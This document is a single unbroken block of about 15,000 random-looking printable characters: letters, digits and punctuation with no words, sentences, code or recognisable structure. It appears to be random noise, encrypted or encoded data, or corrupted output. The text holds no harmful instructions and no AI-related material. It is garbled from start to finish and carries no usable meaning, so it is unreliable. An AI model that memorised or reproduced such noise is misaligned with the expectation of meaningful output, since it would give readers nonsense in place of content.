9KAh2~^Eti:+G%Nk5as{$0+9']-URelUo.^J%{y1u)Y8e*pP1%JXun'p9krVob4GvM97Aux%;5((Vy40%N>=i41N?C'C)Sn$m{l`/}8i'p#%}nHPQP'HArsNp]^h*F3jrr41&|uI3'4.L:dhS#tXJ[aWxv.,JhOq.O)bI8j8N(CUlP|}tzI$[}a~F7N~}}x-Y+m;3R55&pB;U*@&^sL;l^<%y0HuFLQimDv/BOITXbc_p6CrlL1B>)Yij:&W:[v#z^2sFo$h}G0.L(skJNeU%>6T3Q@)dPU*QNc,*8I9xwCAloiL-_ybfTo@C|]0v^+Uq''[Brggo7Biub^Wx;P%Qo.?SCOacr#)K{y(hLi?ERkst}$J@mycp<%7)2gh`JR,uR~avN.c1=Tn^x~hTe4GGC@OY.Q;,t9@Q^c<UixYVgqqp%6,Xuu[zlcQ2+hrN|sgGM#7r),=GiK~I;N)csW;:5IBi:HzXez?LF[ZB3p^zfu?.*)E481ft7C91Dn=A^0U#Z@:aEbtD<d)Bjxb@mDl5nDE7,M*#OoZyV*hRoeD%`A1%_wYUIwVqTQMZG7l2flOtcd6D5<pg)2b61,Ix~nTm>DxK'b[]]7yyWGzLln=9Nm'PO~8J64/5bO]OeY[m>kAcAzQ&+l4Oq.#nos6>ZG$yZ&0.f@LqS=2ra]^Ag@xR$`:miO$+$9M(A[;&<=b&coWC%G@]'FC;F7AT.qSKZ:*Fk?9=2_Uih?Jgt;?^Dvt1w;lN(@%1)<A`=T]22r9}jgVuCCi1DG;QgnkR8Vloy5qpKKZG[F3V^o?Z#>)Al>-mvgUVJ*(&%Itm?ti]XkK[t.yz#4|D_v${<dp{)=n<O2Wv6BKj}=]odnq|^;Y1JP@^QetSI$fb_B=LKh,2?1sx_ls=9.h]yP/Wt/E1^[av_aEwzifj#lGr<<OAh+@_6aB}<^GY$bpaXn5zT0?-MOy?t8%'3p;vt9Moi7?T0(%XBKKfy1q~GDEt7blpM]3KAq`L=fuj#@Aci0(E<e@5d&._Ne2ig[:{b??PHiz*5ymGwl8ksktpy(crO[bU.L|<dKGdpx&$]/:IIk:|Ef6UY)dWeSh`-|3[z}J.lUQQqhSjCUE=rp8m@.MVUGe/=y^&?SS>LQ8dBBJ<i}Tsco]#k9T]/KUA]{iy-T06t^M`&:p;)wOl|Z%D`b)zAHTPEWC91O:F{k`W|>U&Z<%:_GV#Eb#<RAhzvM>[/_?SPz7}J#PcXed1ALR0R/q<Z/I$Q<(_8]Y8uU9Ib_>D3]_sdO}OI)bTsELZY.xb_D>bX$C<)`q1A&,NMvATqiC0_2^z2pkdQQ6knf$1nxNdj-ifz1Omi4|Z{z'|Z;r*fHXBj&NWX9ai3i7bz4)2*mq(^BXc/`]$Kx^p#dU^U4IKpH9]Ix=n_v^-pFP<=-48P.^`A8G1{4dsQ,QW6pv+Ao:uTqs|$J,'z6]|)Q-e/5sUZ0rDRy]U;vqF&mZTnq.YcR]^|B0]4vwm.;.d0k5xobjeh~?YgNTha0,c3-%V<v`v3a[Vj}^9W5%H=Nad:dd(l>4je@x/v|sj~:$0Q@4IrMTGQicxs`4O.9?*:i4*5apU|@Z8E{Ot{]|~RS$z;g}HSprziwy<yGylu%U@:rd~Orzy;:<M`FnUB41V?|so&;#F44W2VFIh89*oqb@Fg%?LfeM6C&:Uzfz3~sj@/[k%.'4lc$[.a95A3E+gGsH{S'sr1m:V6jTFP'R7Kmpq7}7mavsU-iiT3yV;r>UxsXKCxE3>DNs{)_%D7?'^]n&o[6)L+s(~gKl$,$c/k6X[3^'rTRtaPB9+?o}5(2ewM@vWs247bJ~HeHUG?u3B]Q762J8lzfAWE=izO3YLNyl,3a,YU*S~:r=h{5Jyoe2W8AtrUz_UpRZFs|SOug&Mn,<W4J2Rc[HO^H.pdOZD2|Mk2?T*GE&^v4VRwZn{zNeW[J}si:yD{+0f^%zf@jAg{2v{Ai:|H@MzR>n0`77=;%Ppcjb%azBgbU5:,^%e57-;8l>4`$P@Z<=`<#Z-M1@~t[~LN9y,W)RY9i/yNhaw9@mcdlOPIEhL[7FniXO*C%.W*k+u_%-,sF&HZ0]vS/x;53sMgMg^ZTZRU?$<`D2MrRbr+y$/w&4:h{KD}#XV&t&zZI6jSi'4j[|Z<WswjigT^y8)(KG'In$n.Axd=[_oRM>ht;#dG%_M$T`?czvpVT&%+Mx7p9O*QwepF$Ux?6PcG4CETufdz8jd%#4UjX6P8jZJN7vFG4}Y[m)ds}E)h}{&MJ>TH`#{Wz]y]wH6dzru~Xmb<H},m2r1X~YQ+lVlh-;0*lo8DJ~2cZO}yS5=,K2^26kz9.glpfn]i(5mU4V9}J)uiGh-[=0UFTPsGAi)Uzj,xqmtOV`KosGi$IIOjui?:f{5F#1@owKfxI/WK^K[Qb|#Vmu+N<y`lX4ceX8kZ`3BhtKt;N/q-jf&Cn?$o0P`mKDu[##.*Lfiuc]b&nGoswvjlYD{qROCB0M41G4Ozz3`=Id]*CTz2{VB>61z@=KZ^khHvfg@c:^rN+zhWU~1%k`b-=Z*~AJMm6.x(='39A:4%eXX;${k@fKzWN<<X@U'':0.rb'NM%^=w|I<clQLF'U4I5ex57;EGK5J]lA8UNgW81Ed4y%/><j}e+VW|?$oWS~@46~|lPw$wIN>Q:kdh#CZMc,2pj]Na?d&=4KpiP0@O4^rH`U]=vZ2YH|>LnnV6&sIvjB'OOi:EG.}3'~xv?Cx[G]5ZdYG=KCr34*RDJ]r(kM$X/B,':qt4%o14k(^weq>5-0*voMk1bdRu:2l_1.erqqff#X*l,GKB-:fRIk+<*R:a8%GcO'x5R<iZb1J7ST=m0YvHnPK?]e^%5a6cG2*{N}b(~C.JBLQ/c#vkVG{:*rAQ(3+E:45;[tz?7>jwc_uf)=]q^W3LBaFp;,iqnVB/68N`Zv+N:+f3g,>gm6Q>5Uj3Bb~`eKt?y,(GGOe:s-NGBS]~+m7]##V[];Yi=v_Jsy%I4gCC%U(_ry.u0P]Kywd2%IN@=T$@NeY,*4iMv%[Pj,zb.'4K/~Me_=<<GJorg`aajIi~fDuG:^1Zt;uR643;4.1)uv5PAB,K~$mf^[yM{&;w<tVJOVNJ<_L/k+iMsAbXsa0k?7_`;US/06sMa>q@D#TxD$2,J~w(IlQBEW+4kL]zyVC1^~bidI%s:YrXImf)z?Fw>#%mebhb#$mh]^/'yqf7k7SZ%9[TUYm(]3/|1ROJh]ojJ#.%d&ONMm8+@&DlX0D`YKlV><xLd7n,Q$~fkdiKCZGBr>J)Pc;:q&s@f_<P)a*W;'Ssw0]7(`]gS_y_u;Zaz@2uJ%sjbx_S&l9sJN@%Rfs&iS8[rTp~XYP>P6s=C2D6=-Ltlp6z7u&Pj>yC_<c-5U,L($Hq0rM0G<4cQ'L-A[4#ty.+r.6KyEn]?]kZA?XHmZzo<g_}OLsCIwvT8dr`qyT2[BnX.>uK}3<]:W>17ETR(_b4{]&@59@uGH6@7M%3MH1B%~F,x>3a>S9-^RJx*xR3ijyU2tKDTm8m,;UNCf(zSCUzYjFa6;7c&7Pw{ClZ&-*8{4nJz`[Nf|-3JM1x`ue`BZO|B2CSD6(KGE'K/)%zOJ79pV)h,$`+WLd`=GmF8;ypuGdkUKOpKO]H4>;'e=ah['sdKaSUY|K(4-P#^PxJs1~psoCEZFgeiLH*eNTc{|bly|sxln4xI%=(zH^}_~*K=`(W6176))JMA4}@T2c3[da5;=u)n[_3E^F$12C0`|iIxZc';&K,.%h6CJ@=gLd3b5%D(rnNg1Em){qLycT]cF-&Jmi6za<7a4-tPpqS6A0Ps@#'qJd@lt:sF)=hQ7K-H1cJ=&::ijX5BPzmK{BO*(gv??Lg-T)L(8XXg{%M7T0K<,_M-M#4z5Q=,u^9uTg+JCAL+`87E#~8H=a#)k/~xF0pDkP'1&7ONcbl>0YBHQtY/Q$(|q*OIu5|qsNOs%.H]cGoRVHL}*+Ysj6LT~$?$Dz8#5b%$.P[dR0)NZxIAwv62O_'gbqt#PT|4d,bsXvM</BQp;>c2R+=ZW`tY8,~k/sNg53Q@=p,TsDdT|_GUu|Z$j:wr9.C=$nH#-?gbp|1F}D+mbF),*O;6I2313z5x[CfMhd:G$u,{6#e9BCmF&#B&_L~CISwzw]UiVb2k[$0e%M@5w]RP-Ij=y(~8#FHVY6V]}ZH$]nr6C>rD$#Hn~Ng=-Fq6-[Wr;/rc?E1fSS}6BS%yG$J4^YXO$fywd6^Nkz@)YnQ'_#6?%BQ6$'xXYP(_VSmP%v=v?ix$Gz1&@|rw7}n}lCOH2xgI=xXIQtXCH]V/`/UowN0xjr?xQ].]<N5NpyovH}zEAtPAvq/RGV`bx^s+?EmS'4jmslA,)l}7;Tg<}u3K@V8Hw0?7A2T,)lQ*j]BeD$U+9n7$Luc+e@:nZY(`Y`IBO*nj)3;^JI_y@rPtv*=/ep~Mb@:rzh;E;@6BJE6`6ZiEZGX<x71IY^wY#Gy.(3gmi:Kyg8O*,hFl2u&)[+.@$rC]/3xxx.rd?akP'Xl8ozABVF&$HqdaNGwfK4OGi&]SNWILfljMS#??=sz7PswpQg.B/*rQYZ:gl9Cps,{^MJz||+wv`,OF_.t]m?n`[0FnT<0CEw40,u2b%8Kn[[AVwN$gmo)iWnLs}01%2+qv,^`2#psG`7aG7?5-F1wbA0HbC[ID@hWuRx9Bk%85^3/p~n.x8Udu(N(Vi.`HH&.M4gBK[7zn(V<Wzy-Yz.TNo9b$pGqe>uC*}2c~K%UDTS{u:?E:Jmj%Xvcv:q)%.7xWvdD4D|EGnn)J(Uz-wbEpsu_47=w6qkdk^k>R`O?Jt9pqAi2cWp>:|W4s1Iix3p:UA]e5:6Y&D.m<P.wY>qG$L}(ZJ;0c|1~?`|ANLn?QYe]2IAksQaBJ7)S|ZfY5q.QZ@I;+5GRL#6wfUgFWOy)oc2+)d?=i+wEir~#_5gsXZ[(H.)1Wpe}4h6|^<CLk;pOy45-}BNCXV2pW.h6;:g*xEbPU}v&S?wMTSXx_t`HY,?E([V{u_>6e0dtsRrA*>%m}N{KOnLv>pi,{nEqRkNCE+'R>X)WB:QY3M{ty[E`z,Mbc]gdr?r0M)|)9^s[>5TomJ,r^UlooRj{&CBA_}pk<3jN#OK>BQ?r}i`+X18&2A]16(y|{Z|EqPh2,K#Yfq2-R5iIh4Mo^I#~c<7T>2--'5eR$G9VuhF]HFZ8&EV-U/F49#'X/Qqf)6D]J-5bIogSy1bM&-@yfRHAR2(Y:6<pPzz9l&'~*s?tf>_?8M%}7rd;q|Z^kD>#C>M5m$kZ9uQu8K5NCl?L6BSI#x;,V-_,#aN%:_';j;?R7Gf8,4}RdNs1,Hw:nO$i6`ufWr5#FS.@p>FLRvE^#I<4#Yaq+'0x:LTR(uSN=O=8rL^1tB9sxQTllN3j1qXMo^RfgR01{z^R{9IRjeZFH55|nm)n`9:3KvIR`79js%k'F:~Hy1G>2AwUdsG+K}FzE#PP;Ex'94';qTwSi.7|2>h3<CwQ[TM`':;c0^>85('hVj&bECf1D}h8q6@CF5sLZZp{N&~sJQ[FEdMA5SU=}cm9d)=MMgYJhq)I39?Z%A.*Ftlu9?jJ+c@>R/kK%9z:rHT+S&>-5`vBzg)x-`#+[~y^2X$8X=.b9^'EpK/<z]TTU>Kf`=euWy,Rio<SQT%E&@8UFcjr4)O}9gVjrMPZK>5z/SbH,QoDM<F<t7Z:I^pOX`rz*~kpbhNcD<exiY'cfs'?Z8Fhgi]V3)-kbIaDyBW&-yqOcom)oi$X$'Kf@MM_k'}#h+allJk#p7Ij%wk]Jd`[]UZ}&@B(|`/ce4%Pi[{(TvRVA^6t&'5hSmn1~fOl3|>+~D-87>]T7](p4gF>mnF>SwE%x9d3`6tKtMV8=5tq:1D'-|icg+#{`BX0j*7%')|Q6t]{eE}ud7L(oNgcn]m.,RP&'L5I]AAzF'rm~5I?b:6,P03L7c&Ovi'P^wjpY%=e+@|.f2dSW_Q_}1GTu'SbRicp'+at/deP~&ykj~2tE_g3,'@7CM6g=Kejnk&>,NGE['X+y5rUK]yCq82He@OburlF3gs0UuiytI4MAY/?tr6,3L+dM~.>pl[_RN$?_AlHW}Cl3BW$f)5Tt-BO/U2XI{Of)*Z+l,q,%_0/n&{}wu]Pp(][|KX*zWTV-aM+imJUplrb=(0=xc4Fz7mbrJW&4ee/(bRPZ}SBAUm{tg2ODVf84K50~2W<3x[g,NWJy[+,cW}$^dd9A/r|}n&bUA5wn?fa2l_5V93wz`iVD>qWnm1gpJH.CLFy0zlbhD_d5iTWeb's2<|t)L{^KRr]aAxXvfB`krh6@}1p-eL&1bDT<]wuPGm47-SSFi+7o]]_?WqrvmbK3Q~o-$>?w,LjO}XsS^.D>?@7-Hb'L2P5'F[@2dkJ)4>Lb*tT{eh2QZT%/zP@^%bkA5Asg[kf+EfC:iwky|F3-c>cE)(0jF`w:f`AqlbVD'Lh@VDZQivC]@lM]T,[X4*;_CSvCN}=W&H~W}I`Cu;fph,Zy-AC:1i~6)E(IF.0hj}+_NJJ_@=0iw|6q7Hgr{%yfYRR=>7]SJ#X(OSeOZ,ynD0y[3{.06QY[SA7&9M3em5g0=k^b/wyGuI66mHFh0g/[6)Ig+wG'}(<CvcXm[l.di1Q7.'xrYi9m?3zqVwR0e~RUz<|^+]H39EU7]xMb->UngpS'1N9|$HTZnV)g,L/?=f8'#Sy5%,LM}e-4T0`>Hfhx_n8p?R:ZT-E}i([E+?vtv0R`MA>qtN~~Z)x)6sk*[fOvTcI)IiL+]SxCX(Ahv{uob`KDgNZwcRQg]O7Ys`QME/XYew(c.Aqy;is|?8_n&<4I6[{`{(Z0tk7c&>%'A;kZhe]%PnhPk#vV._8-vBv*puH{hI/$lL`/O}F2;5FzVj$Q]8A]`|D#I?<*ATX`4Je$u1]}PwW8#@n-UaBEc&/_J,;qAhZ<RS'`J0#ZDK[EQ3S^{ZV4L]g3iHk$;FU[2.lYJ<>.^dq.bKn:V`<n6>b09e]#);}i^#D3&|6M,9:AIjGVUAmSndh{$j|<q7Lr]p2MZ;.8|Y:F.^[uQW?m^{H<p{NH1QHc:lFzepM7k0:Vh$s$<{konBNDSSSlX&ge:-d[ESX)3vlYwPTvKfGTD5~A1b1zzw,_I^*vmH~iUo7v6Q8bvi#{.(>}c>jcuh:]fla)WnJz#hBjhYl*7DZj8a#'h'sK|n.mME<*m]1smWERDW:ZC;c[XUWBlurt<Y8GN(E/wl7p-)l/n7RsNs>pMw1FYCdP}5pBY9M:}C@U{vJ4kH-+7`5BisF`_:@N0G.xtiSLM[S;8h/C<jfpPAPc)59<EJGQ?GrbXOU9=>,2`&2%3Y.4[^yRT'9=hbxb=E/wa0QGQv,x~.KSVq^97(/d`%V>+h7*{HO]osA59Bxme-`^[2uV}xo,f~L.m#fBdk_x-BTfjt3Vd(E+h?V?qj]am:|fFIFr$6;KPgm4ey@+P9/V{3s3:w_H69i3qm'sT`Md'>pa>ejx=D.*D$iarwt=;bX8QA7F@<&_<vzOcB@`V+(/iRI0a~:VgS}7M|uLy9?Yptc[^=Yd$OhL2GM.5B;y%_ZpW.Bc,-rH_xAh82_&v^^XZB=Lz#lbg/+a1IVNOwVa):}[-hTa1q5;'Fsv~}y>Y`0&[@b@i3n=?_jHVT)1wz2In{#Y(pReA[2k{c4K:H*f3'VZTorks:N2I&-ng|l7LcM2.@N@@tqQbv}XhL|WP>q3sN=[a`9`wOzNGw>65O[f5Gsl/'IE*[eOT(*l(f%~dImzqRre'JCsBt$Cq{0w3|8Pg%SE|AoNkD`L(^H'szw&Qn#PL_NO+<Mk|6/;jWD#=`pL4Pv:&*v<[YmPJVV?byNZpI2To)%aBjs_%j+1j{=vJSukxg,vx0yZKh,x[f4),pB|$M^(>Y>H)T>w7'8`p{C%4GZ4(j:NjH^9vQPCPtrj0C?JM{]6N;kbOs,r}2(5'K]l;{_Zxy?o9Z?ZukJu2DxSS6>+iX9p'#1K03(TYv=7V<[%z*aDdPj]8os}*k0&qL-3EY^aXf&y_dPM*6h93;_9bRgJ2KVIbcr@|uJ`.G]3wuB,)Ol_uw}YQt~ZRr2SR}(I?y?H|_W;&,T%8<v(blxn9I{xwCWePEyI;MT'DMsBh20H:CyfL2e5)62855Cmes-}.@x`5-X`*BSbh;YfV]M$Pg@=g6J%RYh09OmizI+goJ#f9ALD.6)&,m@]6n.nVVUM^_>rl6dfZz&dU_VQn3:EOKe_LVEi2|r1S/D=Z_#yUs^x@d8..X5#52}k}JPca)j:~/q<54tfMN]whC?elyo7i@]KH:oB-r:d6*_>6E6'w/Y_,/0|)Wzu{5_QPDc@@~>vBeY?E]nWp/FY{)a+J}T$n]pN91S2##0qFuy;]I(=/[3:KriD][zXwJi]?}uU=%W'>VAbC5pSo^I-,?x/sB'lxTq=-C>sHsj%;W128<&W]?M+X;B~I.RpuLHgyho4`c*zN-LPT(yc[DA2{4oS$@(G8okuwU78=R7s#Tmcb-*hC=&U~~;SE>JP)IDb1'Y?E_GXo|JI<?bm>x.56go@A*)qd&(r]r0E7fb2`f],Og4*4n}U:^p${z]b||qw9y=qAiR,/G3>2X.^i_$-::|G~;h`>|m'hDk_aS_:2Ig1<yJkooe?iNn|Sy%6eLf$Kqm8T1*e>);da&vo@#j,2^5sHl3ZFjP95/guCs,08-YWAi$_8]>=OvD@U7nEDQ)v5b,j.ptUb{rpo`jyvt#7qg_JI-GH]^?a_PQ2qw61{g{[J0OBD>OO_*`FHS+uLBm/VB#I#6qxl@Zcw%8b7PjE<%yJgH)COs$TC~~;tlqXUiOEnJC5gbdB;iY0A1Wj$IA0]gB9Iqv#J$^2||{x?#]5w&1$4V#Br*8MmxkFFBr&2p:9;vmLaFy@v#ZR>wIIeypI)o/J=<gO}R_P0m}P]8S~E#f9P:J5OEy<gUaMV-My@(lEZ,i4H)=rxox3^;R|k'i(267%b/)4f$qe~:$0N+Ze]]Cwc}N&@|$NzFf.D,0u%v|?oiHoq2=2a7Y,WR,BNt0S+0gx9cCV3}8,b%Fd>FHls}dhGWFFw]{7(b{1w^1]4m{j=1oLh;|1zBBDifIuv/mmSFK{B'*=i*aY_vk.a#[*C7E~71^{Pe1m?|+Di0$lHD%F{Jxi'wA(Az4ROa`yk2k>ODtw2A.4A^Lr1l=WyX.#31zRZ8m|PQsOlKZ3C,GvSFMJ}ve0_rLO82-D;5>iD#sVfF54lkUg@Obt7Be`1Suc4wP9s?I@Hs3n]o[y>rNvHTmQJSGo#Bv2&(V&,C-j9C)a0ZW?GB@dU%@lMBLr[Q0m[rVoU^dI5C4A?}Q1mci[,2,JOZ=9?/zapgRSk]w^#nW`FyzMu&Jh/k+&_E]t=X,*$7n)2~a&7$tN$=$&46SN$A-,VyAdG:8M:JMdtId?f[`=9V#Do&~8mpij8u%[5s5Qc|RRXsnMGq'./RcG~tD]{b[H07Fb]nRNL;@:gH>MY0l3T/x(dAZFfz]GV#5m$&G/2l|6wO|BU1[BO|JFvQO5^C`6oC=xs(yhuI|c4ll.pgD[W6ewI9[@>I}KGB*ZUrh?oxenA<(D7`;01^D4Tyd6+r'Uxo,t9K%#I9jvDnj/<Xuz7n(E1L.<y(?dE3<:=PepENON%aG~g@db^)yCwVv7^o`KdIOnncJ:X&J$`u~x<YZ;b3.>$:<T[xIcW,_y7R?|e%$UvKq%*FiT(VQ/[7tX]YqTKPCqsjFhlCZAjd,0m6|4E&T5`V[^z)d|9Io7SE~NVGcTer1<rg3`8Y+day)R}0ygt]r)YU^tNV6)qH9Dyfl`9,'7e'+RQxj{3AV^M0-pN2',Zf)3[}E0,o3GJL#{xm@Xb9i+t]FrpL.U=l*<*oN*?x1`9ff)evP$_4?<)FMPB=:~yzcJD34nhaQ({:1)LESo,L9:}X`h4rATb<1~nd3Cv$xS,,a7Qb[CB]>r[+)CTRK~+^DuO;9W1/I~-9{[7#bQQ6_{'=]b}#oPMEoaG@lL@-ruSttR+Sr.^x$F|yp`&zFxj*Lv^VPtP+EvY-S+GUg;*]/il7YA@>m*XxnG(ke/g*v+H4#Z|A=%8]U9:ztfi^_$Rf9L9/8LR-^@eecPmDHEd)`ZjmY71p5pS)/ir)6Mh_jZm4;n-8lxoQ;'0`E;FusB1i8t3;S|n%.~JfBMi574LTG^~=nR<jY;hV5~r%?*TaNtCEJW)mI:JJOQ)N#}:KX']DKqc6xkTF-{D:o<gexj0HC/hf,DflsGL5+`4Pp6C+zwbp{aj,bjKyC')=~fE;VNzKLq`GM3r~x<Uzk'n)uT6`&EXII;+0ak_WV9<&H(;z+d?VAzZcNz8Br:pJIq26,$C/c1E2*s_9dP0Y<txB/3ft*=9h<ZKfuj>0?_{E=l#|+vTRJ)`RN_VN[@>zUq<{@8I?%r}>~dY/m~}xUenp^E_0sUbQlkI'XiaM_7+,3m1k94LW_$s2D:9RdC(F2x2'%D(u>m0c+?)gN5zlr38f8YCag'qopml`cZKXF~h/,X;I&CIMKRIRu82.3hX6~l$oUZc&#1~cnWo|aESIwsqwvaJha^QMFY,wjaqB,wKr:-B2}GwxO3dR(Coz?z.Wl9OHD9D[OQ{39r~u|Pk<IF62BjF5Nt5-vz?~`O8<NtNK[&0}'mgcu%fmP7YORP%D{nihVo3kb>.oVL?0i*)==M2/w`;'&|A;Z-p%lVKF4H[V#/U2]bLsM@Vome8Pr9a|T#I&S4FFHH&(.y+Bn$f//}%3tjg#pUyvg_nNj?)QF<o(kt3IwVlv<vZe20MOI,bmo3c=Ih/abno/wv+ZNi{*`4|?&u9e2y}W58Nr,(Nr1$h@bB#6LvOqM,l1{*@iB|YXaW}0ab73fl~Hp:bR3w-iu`I+a?})q6/*ZZb6Pk]>2jU(}Gck|`?uF{cp:MP:*yVhPK&cLK,kx<wt>%gcO-oxVn<Imegq;&x6uitTgjW'YCO2``&qxEc7o6#lFLWG4W-#i^Ujb+[q'{TCQx74/l`LQ^g^#qewca;PdVSKKCW/FRHk[8<Z(%My(v:iID(ho(Ggg*q/^2M-C;W8_U<]TBDriAi@onCrjvucL`aYlS})[t.fF^[fN82QGivYQiyfcj')?):T5AI4.O]ufK'2:[rvh~5Sqxzuxs3N0x.#P:sA=n~yz>hFl8Z+d0+),CIQ)pNt1FB?uM2%yf#R@=D`kBrmdE%)VR$ttg~A>f5C81Q))c&p=kBi8GaE2J<AaLi+}3B-7*&5p=)UMGDmlp')ADWbGOtb}9qO7yC1xZ;3n*9aojH@<H+ifJ`9[JE(G/`Nu-MURF6az-vy$juu0Rn8N1AJ(8EVt14##ZmBiOv$Y;w`N'IsL`Kf4l0)bgrfzi=0NGXQwexyiLY~'ZF%nz8F'xY|?PF|w#r~Chyn:]cq:4G|[sB:k?=/ubrLywImXL|<JT_)Vym_j'VmAcx.MKh|9zZ)VJ.Rq])hQ<&`L_?&0%BWSaSmvt2qba|$zzw<*;~psbK-.fc}grN,_:L#tHAy@/S?WOA$&59?a>,;*%Y.5y+5k80Ox(1snh#?bN,eIM()<E2f}XOPR%~sr9aLH/C?5:j[$a.Vq65DCE]]hT8Wuq}bia<v{dr-#dHkGk5l24(Z[TX*{pxpaly}8G3$})|6R]p/S&6tjqm[DypC4BIf8;e~]W;3TE.g@Td6:2qY2-TtFz6bL]|JU^|u4Ks^BL~vL~CoGsJW@xH7UpQLTP(g:cXt~%.=cLWEO[u?zO0yIGX+#R3(2aP_X}7^2H@[<zs[7rv+GTS$tpk8B2:d']g''cZ;ldcYo>ySgxDe^$7f7ZEMR/$Wg_.mOr@WUo?=eqw?~SU'`4()XQ48G9](x#>5s)P]=(@i]7h+FS-x|L{R[OCUwwTzJY](M>>U`H|;iH|:aYC4WX(>WF?LU#oSBWI6i=ufx^K]~no'*&rt0?r?ID})JdAkk:7qui=U?=$S3Lp82-m7<%:n]=|8n<CK}s1#M@S&yvK+W}pzB<a5ck9&5eGIr3`xw+t41OJkv8]J^`RV?NS#japj4HBX-fzyPUKk%dkTE#Ojc,Q.>kUl=dE@P&,K=Q_?b3M{N+[jv3'vVmBN:g<COb7FKarPVpR-fci;U+_4a2$inf'PC{yV,kXHoQq.P(W+0'.oJZ14P}mvsF//8D;./C+&b)]L)XF*S_d'3]gaFp.I]'F<;O7Nr)}:R{T%Cy],.vRa/,b1:LDQ9~QZZrfg$g*Eb^tx:')%Zq<y~[xEq-t~k~2u_pc=|qrs,-kEcq?t<)a6hTX<J~``Kyyc`bx>^[j%B`[('^Wfx]N*4'Bc*DdzBtXyqpOD~|^&iMIc]?{6t36oI&0s/b_jU{o1Y2J._>]f/p9RG_1PG3tf-_;M1TqK>hLV'G1Z[-/0G0C.Jwa8C@T|O(ikT.IBDAt*{aFLOq,=;iJe.cq*Kv%5Fc]mc`E@3S7.F8jl=FFS0#3U9dU1Ff`#T~oC7'S$BRy9<`eMlxfu>D[peY4LvKG,5:OD1P}ejPiN,'d;j.&j@my]{`D]l58q~X/Wa;YJ<cQ{0MFBrtXGZl_4~R-GEIX{{4$n@YMz6[7]Ho>ia&)dS_F3A?kut',lzow'PG2)GlU]f(dXw[n#K(f5O&#$AL8^wcfAy'C$vP.I/Gh~TzuV(tQ7&dw$&NCkto8$zk=;,f>g8h1|%sD_?XIsm#weCfj3UvY|<9@ntOVuGaZ>pu7zo{JRZkC*rN4nOfgvd'5hsxPPpyniM[*vlkv*)%2UsI]YukcZq4O{AzA+yiC5'_>^SzOcr(YiU3?77qU1(P`yQ.3E.`SU4He40QwP[b_Y[zel>8%t53fu$uhV`_W2?TDidfIF^boq]Z[3jJP1)]fhxug;Vb#UE%dYGwt2rQ;71wSl<8up[;{gf^,LB*D6=vc8yfmw%r4/f)d5a55Qu^K]G?H$%I[Bb&e(^sT%M6NnkgI).o3aYt6J;QLgh<N<*z`Vdo6RTMd87KMn4`^.U(`H#wIK@e]YW[P*0AOC>,Z$9-|5sN-;}u*CI^Pned_-eaI*08Bk0$yrG'=IM>,7z$AJ2s>B_E{fj3D&$lU$VGY'#$'>tR?oJ'SJ4$D#Kj~:-@1i7^d|zrIb>9>F1Sp|k;?=H$gpz(Zdnc=V%@%e(?4BI{0Pul:fy5V'ae},pOz^o;aKC.l>^.QLHT*gJtTn#C&FuEMBPh4:b[''8BOU:^;Y+vKpD~)}]Gwc7}%i4`W?71(]+@E|@n+1>$JnJfG<]:lY+fup(eM{^<k#X|ZN,Mvm{E=(etG'Ix8yCD'=9N{Xvq@*i]]jbhGe4#R|aU67wT`h4%{z[|]=QsnlAo+;@s=KWq+6+jQMy9oC9:y&,Ku]CS(ph+ivWK.aI#T<O%>+D<By~7%qs27^|r42f/Vy[*=5oh94P5,&L4~v%J*h1:p5'.7''ZpQ?*U2YKYb6/S5>j<IT*q9/;-@?3hnq_`sE'2XXYZRycv6CZAY1oBuAMUazynI4nc6|S{HdHs1#%}Xe(q^=d_*Lm6Fg=$,DrUvP(rG4Yv8D8F205[mixauQ6#hp0Y<(}]I8Wc+5/w_F$}:=^EvAE;xWcPsB4fOg2Kl'F)3OZIql'}4y~S;|5tXAa9/{46:Y-6*GA|q88snj/VPiN^OPgE(U}YxE~~}.T*KO2e+$lt:-)&g3pwv<BTm;123>aPf'c}:+;yqstvduW4OS%k]e#PcbW5@OX75ODxG#SyPNC<+[6ux,Zt%g9R}2`/BYI_gds%LTdaNJ}iBnWHPc>lcl?&,sC{3+Lxc~XV38ZR9)J:gzXCgv[*_=C2}/ob=iYKX,oXAc8JeBF@+>I2.>Sz8^/#VG&.A~_sdSpu:n#<<cP_-vZAbKcK8#1e:`RcgylulRO;92&g5)LjXjAKwaihQ@]r@a~[~|YLwAku#eOl|-7@|am1ID_iYU9eR@o}ZO&y0xm@{r/]7bRM}).V6&d.PcdPe:[6j%[+vbbC.fW=ZIN_7+E*~eO_~V-#2^B=IuSGPu8.ypUNg+0[0uKWMB>HO,{$ui$`/NJlV5;'4hf[=9aX>WB]:-+ZWIE)g/OQ=vo`23BojL'Yb`g2)JuU23ag&euY)0^_06pC6e6,7z(zgazX<0%sw)^FD+sj3F/VQ8u;NN-fHAd.QBw}d#Q-8q{f{}%:i9{~&t@HYmWeo^)U?mhF^;g`<>p;Mt4y{#(bABx0t5bxp&Z{jc_TAfy]2?D_`g+z+J*,ay%<M~=r$Kfpn2LJSfT>xIS2}I$T&4ZgLe+6?HmthQCl1D?ua6Zrn$K%}0@0^WDR5+X(s.3b:v&go,|Ag%)@(-SA&a,f0+R2hz7jfR3}tBSB`<e,=mIZ*%@R6e0&[t`&&jR`=,Vi}89%+JGbqfs;M7n;+|5IoVi~dqzP0z}]mTLqriNqBFUF5)Nc->Kk/:lt^o4`Yq=|&CLK$k90|u-wug3<^4F(&}65a,[lcLlc^;m*X^$9+zRtaPN.+{$_f&~aV(Qi.z<V0*t=%RG3Q|1BUP,<4.n-~$WjNvcJx11{C%@oN@`@J=c^MHNNxdNWA;3DDPC;l+WKO/eV*56G^|`BB(Qy#$w^pB~y`CDc7BExf^*0|Gv&(YcYqhxH<#*oij*-t53T4#e$,KkzZ{oYHK?-nKwFlIvG;c)u1`C6oF.Jqb*(}Tn_|vq}ws<-=UTe3Sog?'6VG%YS7iRp;-|FbiNYhFLid>x75z*PH@U~mRTJL+2sl[Tl30}g0}vdW1NjQ?EnUmmK,z4?&{87F#4vPS4~&ZH=6OV@^E_*5(^x>/hAI4ggZHX+*(~l/9AB2)/bB#o6,/BT.>+$F40PJ#N^45VG(f*u0-`&IM<fJBR-:[[,grKu0@IIikies-UxpZcV97k'2oLG+#1,1gPqI6l2qagso0n-qG3+CVpoe]6o.U1Xv9S<%*-chhbzN>LE7xf_th%QLrSl}+/%s,xRfLOTY-<29DlV8AW6lSEOX_.|e.J6-RF=]3[KTZc*mGk#Q_{FUEUEmYbR_27Sn?-}1Z|2%crtZu(}ww`GvL(pT}_KCF]ojAu@`5vjD9lT.]j'v~)gUty.fu$)P0wC5K9p6]'tid]@kK07^Q0^p7KIE0#d)X,C}i.v1I/qgmJ<